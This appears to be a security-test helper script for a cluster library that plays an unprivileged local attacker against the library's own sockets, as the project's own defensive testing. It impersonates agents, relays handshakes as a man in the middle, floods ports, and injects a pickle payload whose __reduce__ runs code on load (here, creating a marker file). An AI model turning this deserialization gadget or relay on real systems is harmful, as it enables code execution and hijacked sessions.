"""What another user of a machine does, without the cluster's key. Root starts it and becomes him.

    stranger.py relay PORT TARGET forge|silent MARK   # in the place of an agent or master
    stranger.py agent PATH MARK                       # in the place of an agent's unix socket
    stranger.py refuse PORT TEXT                      # in the place of a master
    stranger.py flood PORT COUNT TEXT                 # a client

`relay` passes the handshake of whoever comes on to TARGET, and then says what it likes, or nothing.
Whoever loads its messages makes the file MARK.
"""

from __future__ import annotations

import os
import pickle
import socket
import struct
import sys
import threading
from typing import Any

from dsmproc._channels import frames
from dsmproc._net import wire

STRANGER = 65534


class Evil:
    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.mark, "w")


def framed(body: bytes) -> bytes:
    return struct.pack("<Q", len(body)) + body


def forged(mark: str, channel: bool) -> bytes:
    """With bytes behind it where a tag may be awaited."""
    evil = pickle.dumps(Evil(mark))
    if not channel:
        return framed(evil) + bytes(16)
    attached = frames.Attached(1, 1, 1, 1).pack("127.0.0.1")
    said = frames.frame(frames.OK, 1, attached) + frames.frame(frames.MESSAGE, 1, evil)
    return said + bytes(16)


def relay(victim: socket.socket, target: socket.socket, how: str, mark: str) -> None:
    hello = b""
    for one, two in ((victim, target), (target, victim)) * 2:  # the hellos, the proofs
        frame = wire.recv_frame(one, wire.HANDSHAKE_LIMIT)
        hello = hello or bytes(frame)
        wire.send_frame(two, frame)
    print("passed on", flush=True)
    if how == "forge":
        victim.sendall(forged(mark, b"channel" in hello))
    while victim.recv(1 << 16):
        pass


def listen(port: str) -> socket.socket:
    sock = socket.create_server(("127.0.0.1", int(port)))
    print(f"port={sock.getsockname()[1]}", flush=True)
    return sock


def connect(port: str) -> socket.socket:
    sock = socket.socket()
    sock.connect(("127.0.0.1", int(port)))  # create_connection() would import something
    return sock


def be_a_relay(port: str, target: str, how: str, mark: str) -> None:
    listening = listen(port)
    while True:
        victim, _ = listening.accept()
        relaying = victim, connect(target), how, mark
        threading.Thread(target=relay, args=relaying, daemon=True).start()


def be_an_agent(path: str, mark: str) -> None:
    os.mkdir(os.path.dirname(path), 0o755)
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(path)
        os.chmod(path, 0o777)
        sock.listen()
        print("ready", flush=True)
        try:
            victim, _ = sock.accept()
            wire.recv_frame(victim, wire.HANDSHAKE_LIMIT)
            victim.sendall(framed(wire.hello("")) + framed(pickle.dumps(Evil(mark))))
            while victim.recv(1 << 16):
                pass
        finally:
            os.unlink(path)
            os.rmdir(os.path.dirname(path))


def refuse(port: str, text: str) -> None:
    listening = listen(port)
    while True:
        victim, _ = listening.accept()
        wire.recv_frame(victim, wire.HANDSHAKE_LIMIT)
        victim.sendall(framed(text.encode()))
        victim.close()


def flood(port: str, count: str, text: str) -> None:
    for _ in range(int(count)):
        with connect(port) as sock:
            sock.sendall(framed(text.encode()))
            sock.shutdown(socket.SHUT_WR)
            while sock.recv(1 << 16):
                pass


def main(what: str, *arguments: str) -> None:
    os.setgroups([])  # after the imports: he may not be able to read this Python
    os.setgid(STRANGER)
    os.setuid(STRANGER)
    {"relay": be_a_relay, "agent": be_an_agent, "refuse": refuse, "flood": flood}[what](*arguments)


if __name__ == "__main__":
    main(*sys.argv[1:])
